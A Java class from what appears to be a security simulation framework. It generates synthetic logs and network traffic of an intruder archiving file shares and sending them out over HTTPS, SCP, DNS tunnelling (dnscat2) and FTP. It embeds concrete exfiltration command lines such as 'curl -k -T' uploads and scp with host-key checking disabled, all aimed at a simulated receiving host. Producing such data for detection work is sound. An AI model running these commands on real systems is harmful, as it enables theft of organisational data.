package io.testudo.simulation.attack;

import io.testudo.simulation.Stage;
import io.testudo.simulation.attack.Bridgehead.OnLinux;
import io.testudo.simulation.attack.Bridgehead.OnWindows;
import io.testudo.simulation.chance.Chance;
import io.testudo.simulation.office.Machine;
import io.testudo.simulation.scene.Link;
import io.testudo.simulation.scene.Network.Exchange;
import io.testudo.simulation.scene.Resolver.Question;
import io.testudo.simulation.scene.Scene;
import io.testudo.simulation.scene.SecureShell.Proof;
import io.testudo.simulation.scene.SecureShell.Talk;
import io.testudo.simulation.scene.Web.Caller;
import io.testudo.simulation.scene.Web.Volume;
import io.testudo.simulation.scene.Windows;
import io.testudo.simulation.sensor.Proc;
import io.testudo.simulation.sensor.Sysmon;
import io.testudo.simulation.wire.DnsMessage.Type;
import io.testudo.simulation.wire.Ending;
import io.testudo.simulation.wire.Openings;
import io.testudo.simulation.wire.Turn;
import io.testudo.simulation.wire.Turn.Side;
import io.testudo.vocabulary.entity.Entity.Kind;
import io.testudo.vocabulary.finding.Tactic;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/** How data are gathered and leave the office. */
final class Exfiltration {

  private static final String BASE32 = "abcdefghijklmnopqrstuvwxyz234567";

  private final Scene scene;
  private final Chance chance;
  private final StageNotes notes;
  private final Machine haven;

  /**
   * @param haven where the data go
   */
  Exfiltration(Scene scene, Chance chance, Machine haven) {
    this.scene = scene;
    this.chance = chance;
    this.haven = haven;
    this.notes = new StageNotes(scene.office()).machine(haven);
  }

  /** Plays the removal. */
  Stage remove(Instant start, Bridgehead base, Story.Removal removal) {
    notes.machine(base.machine()).person(base.account()).at(start);
    String archive = gather(start, base);
    Instant gathered = start.plus(chance.seconds(40, 150));
    return switch (removal) {
      case HTTPS_UPLOAD -> upload(gathered, base, archive);
      case SFTP -> secureCopy(gathered, base, archive);
      case DNS_TUNNEL -> tunnel(gathered, base);
      case FTP -> ftp(gathered, base, archive);
    };
  }

  private String gather(Instant time, Bridgehead base) {
    return switch (base) {
      case OnWindows windows -> {
        String archive =
            chance.pick("C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\Users\\Public\\")
                + chance.pick("bk", "data", "x1", "arch")
                + chance.between(1, 99)
                + ".7z";
        String tool = "C:\\Program Files\\7-Zip\\7z.exe";
        Proc process =
            notes.process(
                time,
                scene
                    .windows()
                    .run(
                        time,
                        windows.shell(),
                        tool,
                        "\""
                            + tool
                            + "\" a -mhe=on -p"
                            + chance.hex(10)
                            + " "
                            + archive
                            + " D:\\Shares\\Finance D:\\Shares\\Projects",
                        chance));
        scene.sysmon().fileCreated(time.plusMillis(300), process, archive);
        scene.windows().end(time.plus(chance.seconds(25, 38)), process);
        notes.entity(Kind.FILE, archive);
        yield archive;
      }
      case OnLinux linux -> {
        String archive = "/tmp/." + chance.text(4, "abcdefghijklmnopqrstuvwxyz") + ".tgz";
        command(time, linux, "/usr/bin/tar -czf " + archive + " /srv /var/lib/data /home");
        notes.entity(Kind.FILE, archive);
        yield archive;
      }
    };
  }

  private void command(Instant time, OnLinux base, String command) {
    notes.at(time);
    int uid = base.user().equals("root") ? 0 : 1002;
    scene.linux().executed(time, base.machine(), uid, command, chance);
  }

  private @Nullable Proc start(
      Instant time, Bridgehead base, String image, String arguments, String onLinux) {
    return switch (base) {
      case OnWindows windows ->
          notes.process(
              time,
              scene.windows().run(time, windows.shell(), image, image + " " + arguments, chance));
      case OnLinux linux -> {
        command(time, linux, onLinux);
        yield null;
      }
    };
  }

  private Stage upload(Instant start, Bridgehead base, String archive) {
    String url =
        "https://"
            + haven.dnsName()
            + "/"
            + chance.pick("u", "up", "api/put")
            + "/"
            + chance.hex(8);
    boolean rclone = chance.happens(0.5);
    Proc process =
        start(
            start,
            base,
            rclone ? "C:\\ProgramData\\rclone.exe" : Windows.system("curl.exe"),
            rclone
                ? "copy "
                    + archive
                    + " remote:in --config C:\\ProgramData\\r.conf --no-check-certificate"
                : "-k -T " + archive + " " + url,
            "/usr/bin/curl -k -T " + archive + " " + url);
    Caller caller = new Caller(base.machine(), process);
    int parts = chance.between(2, 6);
    Instant now = start.plus(chance.seconds(0.3, 2));
    for (int i = 0; i < parts; i++) {
      Link link =
          scene
              .web()
              .https(
                  now,
                  caller,
                  haven,
                  new Volume(
                      chance.between(25_000_000L, 90_000_000L), 9_000, 3, Duration.ofSeconds(1)),
                  chance);
      notes.link(link);
      now = link.end().plus(chance.seconds(1, 30));
    }
    return stage(
        "https-upload",
        "uploads to " + haven.dnsName() + " over HTTPS",
        "T1041",
        "T1567",
        "T1567.002",
        "T1048",
        "T1048.002");
  }

  private Stage secureCopy(Instant start, Bridgehead base, String archive) {
    String folder = "C:\\ProgramData\\";
    Proc process =
        start(
            start,
            base,
            folder + "pscp.exe",
            "-batch -pw "
                + chance.hex(10)
                + " "
                + archive
                + " u"
                + chance.hex(4)
                + "@"
                + haven.ip()
                + ":/in/",
            "/usr/bin/scp -o StrictHostKeyChecking=no " + archive + " u1@" + haven.ip() + ":/in/");
    int parts = chance.between(1, 3);
    Instant now = start.plus(chance.seconds(0.5, 3));
    for (int i = 0; i < parts; i++) {
      Link link =
          scene
              .shell()
              .session(
                  now,
                  base.machine(),
                  haven,
                  new Talk(
                      process == null
                          ? "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.7"
                          : "SSH-2.0-PuTTY_Release_0.80",
                      "u1",
                      chance.between(60_000_000L, 160_000_000L),
                      40_000,
                      6,
                      Duration.ofSeconds(8)),
                  Proof.PASSWORD,
                  chance);
      notes.link(link);
      if (process != null) {
        scene
            .sysmon()
            .connected(now.plusMillis(2), process, Sysmon.Direction.OUT, "tcp", link.socket());
      }
      now = link.end().plus(chance.seconds(2, 30));
    }
    return stage("sftp", "copies to " + haven.ip() + " over SSH", "T1048", "T1048.002", "T1041");
  }

  private Stage tunnel(Instant start, Bridgehead base) {
    Proc process =
        start(
            start,
            base,
            "C:\\ProgramData\\" + chance.pick("dnscat2.exe", "d2c.exe", "iodine.exe"),
            "--dns domain=" + haven.dnsName() + " --secret=" + chance.hex(16),
            "/tmp/.d/dnscat --dns domain=" + haven.dnsName());
    int questions = chance.between(900, 2_000);
    Instant now = start.plus(chance.seconds(1, 3));
    for (int i = 0; i < questions; i++) {
      String name =
          chance.text(chance.between(46, 60), BASE32)
              + "."
              + chance.text(chance.between(30, 56), BASE32)
              + "."
              + haven.dnsName();
      scene
          .resolver()
          .ask(
              now,
              base.machine(),
              process,
              new Question(name, Type.TXT, List.of(), chance.text(chance.between(16, 60), BASE32)),
              chance);
      notes.at(now);
      now = now.plus(chance.seconds(0.05, 0.7));
    }
    return stage(
        "dns-tunnel",
        "hides data in DNS queries below " + haven.dnsName(),
        "T1048",
        "T1048.003",
        "T1071.004",
        "T1572",
        "T1041");
  }

  private Stage ftp(Instant start, Bridgehead base, String archive) {
    String script = "C:\\ProgramData\\" + chance.pick("f.txt", "cmd.txt", "ftp.txt");
    Proc process =
        start(
            start,
            base,
            Windows.system("ftp.exe"),
            "-n -s:" + script + " " + haven.ip(),
            "/usr/bin/curl -T "
                + archive
                + " ftp://"
                + haven.ip()
                + "/in/ --user up:"
                + chance.hex(8));
    String file =
        archive.substring(Math.max(archive.lastIndexOf('\\'), archive.lastIndexOf('/')) + 1);
    int dataPort = chance.between(40_000, 50_000);
    List<Turn> turns = new ArrayList<>();
    say(turns, Side.SERVER, "220 FTP server ready");
    for (List<String> pair :
        List.of(
            List.of("USER up", "331 Password required"),
            List.of("PASS " + chance.hex(8), "230 Logged in"),
            List.of("TYPE I", "200 Type set to I"),
            List.of(
                "PASV",
                "227 Entering Passive Mode ("
                    + haven.ip().replace('.', ',')
                    + ","
                    + dataPort / 256
                    + ","
                    + dataPort % 256
                    + ")"),
            List.of("STOR " + file, "150 Opening data connection"))) {
      say(turns, Side.CLIENT, pair.get(0));
      say(turns, Side.SERVER, pair.get(1));
    }
    long bytes = chance.between(80_000_000L, 260_000_000L);
    Duration sending = Duration.ofMillis(bytes / 6_000);
    turns.add(Turn.server(Openings.text("226 Transfer complete\r\n"), sending));
    say(turns, Side.CLIENT, "QUIT");
    say(turns, Side.SERVER, "221 Goodbye");
    Instant now = start.plus(chance.seconds(0.3, 2));
    Link control =
        scene
            .network()
            .tcp(now, base.machine(), haven, 21, new Exchange("ftp", turns, Ending.CLOSED), chance);
    notes.link(control);
    Link data =
        scene
            .network()
            .tcp(
                now.plus(chance.seconds(1.0, 1.6)),
                base.machine(),
                haven,
                dataPort,
                new Exchange(
                    "ftp-data",
                    List.of(
                        new Turn(
                            Side.CLIENT,
                            bytes,
                            new byte[] {'7', 'z', (byte) 0xbc, (byte) 0xaf},
                            Duration.ofMillis(5))),
                    Ending.CLOSED),
                chance);
    notes.link(data);
    if (process != null) {
      for (Link link : List.of(control, data)) {
        scene
            .sysmon()
            .connected(
                link.start().plusMillis(2), process, Sysmon.Direction.OUT, "tcp", link.socket());
      }
    }
    return stage(
        "ftp", "copies to " + haven.ip() + " over FTP", "T1048", "T1048.003", "T1071.002", "T1041");
  }

  private void say(List<Turn> turns, Side side, String text) {
    byte[] bytes = Openings.text(text + "\r\n");
    turns.add(new Turn(side, bytes.length, bytes, chance.seconds(0.02, 0.2)));
  }

  private Stage stage(String method, String what, String... techniques) {
    List<String> all = new ArrayList<>(List.of(techniques));
    all.add("T1560.001");
    all.add("T1074.001");
    return notes.stage(
        "exfiltration",
        method,
        "The intruder packs files and " + what,
        all,
        Tactic.EXFILTRATION,
        Tactic.COLLECTION,
        Tactic.COMMAND_AND_CONTROL);
  }
}
